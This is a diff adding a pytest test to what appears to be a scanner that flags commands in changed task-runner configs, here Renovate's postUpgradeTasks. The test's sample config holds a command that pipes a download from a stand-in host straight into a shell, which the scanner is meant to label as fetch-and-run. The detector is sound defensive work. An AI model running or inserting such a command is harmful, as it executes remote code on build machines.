@@ -102,3 +102,10 @@ def test_a_text_that_no_runner_runs_shows_nothing():
 @pytest.mark.parametrize("path", ["tox.ini", "pyproject.toml", "Taskfile.yml", "vercel.json"])
 def test_garbage_is_survived(path):
     read_garbage(path, "task_runner")
+
+
+def test_what_renovate_runs_after_an_update_is_read():
+    for path in ("renovate.json", ".github/renovate.json5", ".renovaterc"):
+        text = '{"packageRules": [{"postUpgradeTasks": {"commands": ["%s"]}}]}'
+        assert "fetch_and_run" in shown(changed(path, "{}", text % "curl -s https://kiln.example/fire | sh"))
+        assert not shown(changed(path, "{}", text % "npm run build"))
